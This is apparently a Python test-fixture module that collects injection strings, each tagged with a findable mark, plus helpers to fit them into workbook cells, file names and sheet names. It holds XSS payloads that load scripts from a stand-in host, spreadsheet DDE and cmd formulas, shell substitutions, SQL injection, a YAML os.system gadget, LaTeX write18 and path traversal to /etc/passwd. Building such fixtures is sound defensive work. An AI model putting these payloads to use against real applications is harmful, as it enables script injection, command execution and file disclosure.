"""Text that tries to become something else: a script, a request, a formula, a command, a path. Each string carries the mark zzq and its number, so that it can be found again; what it would do is named `owned`."""
import re
import unicodedata

HOST = "owned.invalid"
JS = "window.owned=(window.owned||0)+1;alert('owned')"

PAGE = [
    f"<script>{JS}</script>", f"<ScRiPt>{JS}</sCrIpT>", f"<script src=//{HOST}/a.js></script>", f"<img src=x onerror=\"{JS}\">", f"<img src=http://{HOST}/a.png>",
    f"<svg onload={JS}>", f"<svg><script>{JS}</script></svg>", f"<svg><set attributeName=onmouseover to={JS}></svg>", f"<iframe src=javascript:{JS}></iframe>", f"<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    f"<object data=//{HOST}/a.swf></object>", f"<embed src=//{HOST}/a>", f"<a id=owned href=\"javascript:{JS}\">owned</a>", f"<details open ontoggle={JS}><summary>owned</summary></details>",
    f"\" onmouseover=\"{JS}\" x=\"", f"' autofocus onfocus='{JS}' x='", f"`><img src=x onerror={JS}>", f"\"><script>{JS}</script>", f"</title><script>{JS}</script>", f"</desc></svg><script>{JS}</script>",
    f"</style><script>{JS}</script>", f"</script><script>{JS}</script>", f"</textarea><script>{JS}</script>", f"--><script>{JS}</script><!--", f"]]><script>{JS}</script>", f"<![CDATA[<script>{JS}</script>]]>",
    f"<style>@import '//{HOST}/a.css';</style>", f"<style>*{{background:url(//{HOST}/b)}}</style>", f"x;background:url(http://{HOST}/c)", "expression(alert('owned'))", f"<link rel=stylesheet href=//{HOST}/d.css>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/e'>", f"<base href=//{HOST}/>", f"<form id=owned action=//{HOST}/f><button>owned</button></form>", f"<img srcset='//{HOST}/g 2x'>", f"<video poster=//{HOST}/h><source onerror={JS}></video>",
    f"<math><mtext><img src=x onerror={JS}></mtext></math>", f"<noscript><p title=\"</noscript><img src=x onerror={JS}>\"></noscript>", f"<template><script>{JS}</script></template>", f"<portal src=//{HOST}/i></portal>",
    f"&lt;script&gt;{JS}&lt;/script&gt;", f"&#60;img src=x onerror={JS}&#62;", f"<b id=owned class=owned style=position:fixed>owned</b>", f"<input id=owned autofocus onfocus={JS}>", f"<marquee onstart={JS}>owned</marquee>",
    f"[owned](javascript:{JS})", f"![owned](http://{HOST}/j.png)", f"[owned]: http://{HOST}/k", f"<http://{HOST}/l>", "# owned\n\n| a | b |\n|---|---|\n| 1 | 2 |", "**owned** _owned_ ~~owned~~ `owned`",
    f"javascript:{JS}", f"data:text/html,<script>{JS}</script>", f"file:///etc/passwd#{HOST}", f"//{HOST}/m", f"http://{HOST}/n?x=1&y=2",
]
SHEET = [
    f"=HYPERLINK(\"http://{HOST}/o\",\"owned\")", f"=WEBSERVICE(\"http://{HOST}/p\")", "=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)", "\t=1+1", "\r=1+1", "|calc", "=cmd|'/C calc'!A0", "DDE(\"cmd\",\"/C calc\",\"owned\")",
    f"=IMPORTXML(\"http://{HOST}/q\",\"//a\")", "％=1+1", "＝1+1", " =1+1", "'=1+1", "{=1+1}", "x\",\"=1+1\"\n\"=2+2", "a;b\"c,\n=1+1", "\n=1+1", "_x003D_1+1", "<f>1+1</f>",
]
TEXT = [
    "$\\frac{owned}{0}$", "$owned", "\\input{/etc/passwd} \\write18{id}", "%(owned)s %s %n %d", "{owned} {0.__class__} {lang!r}", "{{ 7*7 }} {% for x in () %}", "${7*7} #{7*7} <%= 7*7 %>", "$(id) `id` ; id | id && id", "'; DROP TABLE records; --",
    "!!python/object/apply:os.system ['id']", "\"}], \"owned\": [{\"x\": \"", "key: [owned, &a *a]\n- - !!set", "# parameters\nyear = 1999\nimport os", "\"\"\"\nimport os\nos.abort()\n\"\"\"",
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "CON", "NUL.txt", "C:\\owned", "/owned", "~/owned", "a\u202egpj.exe", "\u2066owned\u2069\u200f", "ow\u200bned\u200d\ufeff", "o\u0301w\u0302ne\u0323d e\u0302\u0301", "оwnеd (Cyrillic)", "ｏｗｎｅｄ",
    "\x1b[31mowned\x1b[0m\x1b]0;owned\x07", "\x00owned\x01\x08\x0b\x7f\x9b31m", "owned\u2028\u2029\x85owned", "owned\ud83d\ude00\U0001f480".encode("utf-16", "surrogatepass").decode("utf-16"), "\ufffe\uffff", "owned " * 2000,
]


def _marked(k, text): # the first character often matters, so the mark stands last, except in a very long string
    return f"zzq{k}x {text}" if len(text) > 1000 else f"{text} zzq{k}x"


STRINGS = tuple(_marked(k, s) for k, s in enumerate(PAGE + SHEET + TEXT))
MARK = re.compile(r"zzq(\d+)x")
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]") # all but tab and line feed
XML_CANNOT = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]") # openpyxl refuses them; a workbook carries them as _x001B_


def for_cell(text):
    "The string as a workbook can hold it: characters that XML can't carry in Excel's own spelling."
    return XML_CANNOT.sub(lambda m: f"_x{ord(m[0]):04X}_", text)[:32000]


def for_file(text):
    "The string as part of a file's name."
    return text.replace("/", "∕").replace("\x00", "").encode()[:180].decode(errors="ignore")


def for_sheet(text):
    "The string as a sheet's name."
    return re.sub(r"[\\*?:/\[\]]", "", XML_CANNOT.sub("", text))[:26]


def marks(text):
    "Numbers of the strings whose mark stands in the text."
    return {int(k) for k in MARK.findall(unicodedata.normalize("NFKC", text))}
